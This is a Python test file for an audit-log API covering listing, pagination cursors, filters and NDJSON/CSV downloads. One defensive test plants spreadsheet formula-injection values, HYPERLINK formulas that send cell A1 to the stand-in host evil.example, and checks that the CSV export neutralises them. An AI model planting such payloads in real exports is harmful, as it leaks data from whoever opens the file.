"""The audit log: listing, filtering, downloading."""

import csv
import io
import json
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import pytest
from support.api.core_client import Answer, Api
from support.database.rival import Rival
from support.tenancy.tenant import Tenant, make_tenant

from soundmark.core.features.tenancy.audit_log import service
from soundmark.kit.text.timestamps import format_timestamp

PATH = "/v1/audit-log"
LINES, CSV = "application/x-ndjson", "text/csv"


async def listed(tenant: Tenant, **params: Any) -> list[dict[str, Any]]:
    answer = await tenant.api.get(PATH, params={**tenant.query, **params})
    assert answer.status == 200, answer.body
    entries: list[dict[str, Any]] = answer.json["data"]
    return entries


async def download(tenant: Tenant, accept: str, **params: Any) -> Answer:
    return await tenant.api.get(PATH, params={**tenant.query, **params}, headers={"Accept": accept})


async def make_entries(tenant: Tenant, rival: Rival, count: int, **columns: Any) -> None:
    """Write entries as a later release, or another part of the service, could have written them, a second apart."""
    values = {
        "project_id": None,
        "action": "project.updated",
        "actor_type": "user",
        "actor_id": "operator",
        "metadata": "{}",
        "first_at": tenant.api.clock.now(),
        **columns,
    }
    await rival.run(
        "INSERT INTO audit_entries (organization_id, id, project_id, action, actor_type, actor_id, outcome, metadata,"
        " created_at, finalised_at)"
        " SELECT %s, 'aud_' || lpad(n::text, 22, '0'), %s::text, %s, %s, %s, 'completed', %s, at, at"
        " FROM generate_series(1, %s) AS n, LATERAL (SELECT %s::timestamptz + n * interval '1 second' AS at) AS moment",
        tenant.organization_id,
        *[values[name] for name in ("project_id", "action", "actor_type", "actor_id", "metadata")],
        count,
        values["first_at"],
    )


async def test_an_entry_says_who_did_what_when(api: Api) -> None:
    now = api.clock.freeze()
    tenant = await make_tenant(api)
    entries = {entry["action"]: entry for entry in await listed(tenant)}
    assert set(entries) == {"organization.created", "project.created"}
    entry = entries["project.created"]
    assert entry == {
        "id": entry["id"],
        "organization_id": tenant.organization_id,
        "project_id": tenant.project_id,
        "action": "project.created",
        "actor": {"type": "user", "id": "operator"},
        "outcome": "completed",
        "metadata": {},
        "created_at": format_timestamp(now),
        "finalised_at": format_timestamp(now),
        "position": entry["position"],
        "chain_hash": entry["chain_hash"],
    }


async def test_the_list_is_newest_first_and_of_one_organisation(tenant: Tenant) -> None:
    await make_tenant(tenant.api)
    tenant.api.clock.advance(seconds=1)
    await tenant.make_code()
    entries = await listed(tenant)
    assert entries[0]["action"] == "code.issued"
    assert len(entries) == 3
    assert {entry["organization_id"] for entry in entries} == {tenant.organization_id}
    moments = [entry["created_at"] for entry in entries]
    assert moments == sorted(moments, reverse=True)


async def test_pages_hold_every_entry_once(tenant: Tenant, rival: Rival) -> None:
    """Also when many have the same time, and when more are written meanwhile."""
    await make_entries(tenant, rival, 7)
    await rival.run("UPDATE audit_entries SET created_at = %s", tenant.api.clock.now())
    everything = [entry["id"] for entry in await listed(tenant)]
    seen: list[str] = []
    cursor: dict[str, str] = {}
    while True:
        answer = await tenant.api.get(PATH, params={**tenant.query, **cursor, "limit": 2})
        seen += [entry["id"] for entry in answer.json["data"]]
        tenant.api.clock.advance(seconds=60)
        await tenant.api.make_project(tenant.organization_id, f"Project {len(seen)}")
        if answer.json["next_cursor"] is None:
            break
        cursor = {"cursor": answer.json["next_cursor"]}
    assert seen == everything
    assert len(set(seen)) == 9


async def test_a_page_has_50_entries_by_default(tenant: Tenant, rival: Rival) -> None:
    await make_entries(tenant, rival, 101)
    assert len(await listed(tenant)) == 50
    assert len(await listed(tenant, limit=100)) == 100


async def test_entries_of_one_action(tenant: Tenant) -> None:
    assert [entry["action"] for entry in await listed(tenant, action="project.created")] == ["project.created"]
    assert await listed(tenant, action="code.revoked") == []


async def test_entries_of_one_actor(tenant: Tenant, rival: Rival) -> None:
    await make_entries(tenant, rival, 2, actor_type="api_key", actor_id="key_1")
    assert {entry["actor"]["id"] for entry in await listed(tenant, actor="key_1")} == {"key_1"}
    assert len(await listed(tenant, actor="operator")) == 2
    assert await listed(tenant, actor="KEY_1") == []


async def test_entries_from_a_moment_on_and_before_another(tenant: Tenant, rival: Rival) -> None:
    """The entries of a month start at its first moment and end before the next month: none twice, none lost."""
    first_at = tenant.api.clock.now() + timedelta(hours=1)
    await make_entries(tenant, rival, 4, first_at=first_at)
    second, third = (format_timestamp(first_at + timedelta(seconds=number)) for number in (2, 3))
    assert [entry["created_at"] for entry in await listed(tenant, **{"from": second, "to": third})] == [second]
    assert len(await listed(tenant, **{"from": second})) == 3
    assert len(await listed(tenant, to=second)) == 3
    assert await listed(tenant, **{"from": third, "to": second}) == []


async def test_a_moment_may_have_any_offset(tenant: Tenant, rival: Rival) -> None:
    await make_entries(tenant, rival, 1, first_at="2020-01-01T11:59:59Z")
    assert (
        len(await listed(tenant, **{"from": "2020-01-01T14:00:00+02:00", "to": "2020-01-01T07:00:00.001-05:00"})) == 1
    )


BAD_FILTERS = [
    {"action": "project.exploded"},
    {"actor": "a\0b"},
    {"actor": "x" * 256},
    {"from": "2026-01-01T00:00:00"},
    {"to": "2026-13-01T00:00:00Z"},
]


@pytest.mark.parametrize("params", BAD_FILTERS, ids=repr)
async def test_another_filter_is_refused(tenant: Tenant, params: dict[str, str]) -> None:
    answer = await tenant.api.get(PATH, params={**tenant.query, **params})
    assert (answer.status, answer.code) == (422, "validation_failed")
    (name,) = params
    assert [(error["location"], error["pointer"]) for error in answer.json["errors"]] == [("query", f"/{name}")]


async def test_a_cursor_is_bound_to_its_query(tenant: Tenant, rival: Rival) -> None:
    """To the route, the organisation and every filter; only the page size may change."""
    await make_entries(tenant, rival, 5)
    filters = {
        "action": "project.updated",
        "actor": "operator",
        "from": "2020-01-01T00:00:00.000Z",
        "to": "2999-01-01T00:00:00.000Z",
    }
    question = {**tenant.query, **filters}
    answer = await tenant.api.get(PATH, params={**question, "limit": 1})
    cursor = {"cursor": answer.json["next_cursor"]}
    assert len((await tenant.api.get(PATH, params={**question, **cursor, "limit": 2})).json["data"]) == 2
    same_moment = {"from": "2020-01-01T01:00:00+01:00"}
    assert (await tenant.api.get(PATH, params={**question, **same_moment, **cursor})).status == 200

    other = await make_tenant(tenant.api)
    changed = [{**question, name: value} for name, value in BOUND.items()]
    left_out = [{name: value for name, value in question.items() if name != left} for left in filters]
    for params in [{**question, **other.query}, *changed, *left_out]:
        refused = await tenant.api.get(PATH, params={**params, **cursor})
        assert (refused.status, refused.code) == (422, "invalid_cursor"), params
    refused = await tenant.api.get("/v1/projects", params={**tenant.query, **cursor})
    assert (refused.status, refused.code) == (422, "invalid_cursor")


BOUND = {
    "action": "project.created",
    "actor": "somebody",
    "from": "2020-01-01T00:00:00.001Z",
    "to": "2999-01-01T00:00:00.001Z",
}


ACCEPTED = {
    "": "application/json",
    "*/*": "application/json",
    "application/*": "application/json",
    "text/*": "text/csv",
    "text/csv": "text/csv",
    "TEXT/CSV; charset=utf-8": "text/csv",
    "application/x-ndjson": "application/x-ndjson",
    "application/x-ndjson;q=0.5, text/csv;q=0.4, application/json;q=0": "application/x-ndjson",
    "application/json;q=0.1, text/csv": "text/csv",
    "text/html, */*;q=0.1": "application/json",
    "*/*, application/json;q=0": "application/x-ndjson",
    "nonsense, text/csv": "text/csv",
}


async def test_the_caller_chooses_the_format(tenant: Tenant) -> None:
    for accept, media_type in ACCEPTED.items():
        answer = await download(tenant, accept)
        assert (answer.status, answer.headers["content-type"].partition(";")[0]) == (200, media_type), accept
        assert (answer.headers["vary"], answer.headers["cache-control"]) == ("Accept", "no-store")


@pytest.mark.parametrize("accept", ["text/html", "*/*;q=0", "nonsense"])
async def test_another_format_is_not_acceptable(tenant: Tenant, accept: str) -> None:
    answer = await download(tenant, accept)
    assert (answer.status, answer.code) == (406, "not_acceptable")


@pytest.mark.parametrize("accept", [CSV, "text/html"])
async def test_a_stranger_learns_nothing_in_any_format(tenant: Tenant, rival: Rival, accept: str) -> None:
    await rival.run("UPDATE members SET subject_id = 'other'")
    answer = await download(tenant, accept)
    assert (answer.status, answer.code) == (404, "organization_not_found")


async def test_a_download_of_lines_holds_every_entry_as_it_is_listed(tenant: Tenant, rival: Rival) -> None:
    """More than any page, more than is read at once, in the same order and shape as the list."""
    await make_entries(tenant, rival, 1203)
    answer = await download(tenant, LINES, limit=1)
    lines = [json.loads(line) for line in answer.body.splitlines()]
    assert len(lines) == 1205
    assert lines[:100] == await listed(tenant, limit=100)
    assert len({line["id"] for line in lines}) == 1205
    assert answer.body.endswith(b"\n")
    assert int(answer.headers["content-length"]) == len(answer.body)
    assert answer.headers["content-disposition"] == f'attachment; filename="audit-log-{tenant.organization_id}.ndjson"'


async def test_a_download_as_csv_holds_every_entry(tenant: Tenant, rival: Rival) -> None:
    await make_entries(tenant, rival, 1000, metadata='{"name":"Nacht, \\"spät\\"\\nund früh ☃"}')
    answer = await download(tenant, CSV)
    rows = list(csv.DictReader(io.StringIO(answer.body.decode(), newline="")))
    entries = await listed(tenant, limit=100)
    assert len(rows) == 1002
    first, entry = rows[0], entries[0]
    assert json.loads(first.pop("metadata")) == entry["metadata"] == {"name": 'Nacht, "spät"\nund früh ☃'}
    assert first == {
        "id": entry["id"],
        "organization_id": tenant.organization_id,
        "project_id": "",
        "action": "project.updated",
        "actor_type": "user",
        "actor_id": "operator",
        "outcome": "completed",
        "created_at": entry["created_at"],
        "finalised_at": entry["finalised_at"],
        "position": "",
        "chain_hash": "",
    }
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == f'attachment; filename="audit-log-{tenant.organization_id}.csv"'


async def test_no_cell_of_a_csv_is_a_formula(tenant: Tenant, rival: Rival) -> None:
    """A subject id comes from the identity provider, where people may have chosen it."""
    begins = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠")
    actors = [f'{begin}HYPERLINK("https://evil.example/?"&A1,"x"),"y' for begin in begins]
    for number, actor in enumerate(actors):
        await make_entries(tenant, rival, 1, actor_id=actor)
        await rival.run("UPDATE audit_entries SET id = %s WHERE actor_id = %s", f"aud_{number}", actor)
    answer = await download(tenant, CSV, action="project.updated")
    rows = list(csv.DictReader(io.StringIO(answer.body.decode(), newline="")))
    assert {row["actor_id"] for row in rows} == {f"'{actor}" for actor in actors}


@pytest.mark.parametrize("accept", [LINES, CSV])
async def test_the_filters_hold_for_downloads(tenant: Tenant, rival: Rival, accept: str) -> None:
    await make_entries(tenant, rival, 3, actor_id="somebody")
    answer = await download(tenant, accept, actor="somebody")
    assert len(answer.body.splitlines()) == 3 + (accept == CSV)
    refused = await download(tenant, accept, action="project.exploded")
    assert (refused.status, refused.code) == (422, "validation_failed")


async def test_a_download_has_no_pages(tenant: Tenant) -> None:
    answer = await download(tenant, CSV, cursor="x")
    assert (answer.status, answer.code) == (422, "validation_failed")
    assert answer.json["errors"][0]["pointer"] == "/cursor"


async def test_a_download_is_of_one_moment(tenant: Tenant, rival: Rival, monkeypatch: pytest.MonkeyPatch) -> None:
    """Entries written or deleted during the download do not affect it."""
    await make_entries(tenant, rival, 3)
    monkeypatch.setattr("soundmark.core.features.tenancy.audit_log.service._READ_AT_ONCE", 1)
    genuine = service.audit.list_newest_first
    requests_count = 0

    async def list_newest_first(*arguments: Any, **options: Any) -> Any:
        nonlocal requests_count
        requests_count += 1
        if requests_count == 3:
            await rival.run("DELETE FROM audit_entries")
            await make_entries(tenant, rival, 9, first_at="2020-01-01T00:00:00Z")
        return await genuine(*arguments, **options)

    monkeypatch.setattr("soundmark.core.features.tenancy.audit_log.service.audit.list_newest_first", list_newest_first)
    lines = (await download(tenant, LINES)).body.splitlines()
    assert (requests_count, len(lines)) == (6, 5)


@pytest.mark.parametrize(
    "altered",
    [
        *("{", "[]", '{"a": NaN}', '{"a": 1e400}', '{"a": 9007199254740993}', r'{"a": "\ud800"}'),
        pytest.param('{"a":' * 600 + "1" + "}" * 600, id="deep"),
    ],
)
async def test_an_altered_entry_hides_no_other(tenant: Tenant, rival: Rival, altered: str) -> None:
    """Otherwise anybody who can write to the database could hide the whole log with a few letters."""
    await rival.run("UPDATE audit_entries SET metadata = %s WHERE action = 'project.created'", altered)
    entries = {entry["action"]: entry for entry in await listed(tenant)}
    assert entries["project.created"]["metadata"] == {"unreadable": altered}
    assert entries["organization.created"]["metadata"] == {}
    assert (await download(tenant, LINES)).status == 200


@pytest.mark.parametrize("altered", ["infinity", "10000-01-01"])
async def test_an_altered_time_hides_no_other_entry(tenant: Tenant, rival: Rival, altered: str) -> None:
    await rival.run(
        "UPDATE audit_entries SET created_at = %s, finalised_at = %s WHERE action = 'project.created'", altered, altered
    )
    entries = {entry["action"]: entry for entry in await listed(tenant)}
    assert entries["organization.created"]["metadata"] == {}
    assert (await download(tenant, LINES)).status == 200


async def test_metadata_keeps_the_given_names(tenant: Tenant) -> None:
    name = '=1+1 "ä", ☃'
    path = f"/v1/projects/{quote(tenant.project_id)}"
    await tenant.api.call("PATCH", path, params=tenant.query, json={"name": name})
    assert [entry["metadata"] for entry in await listed(tenant, action="project.updated")] == [{"name": name}]
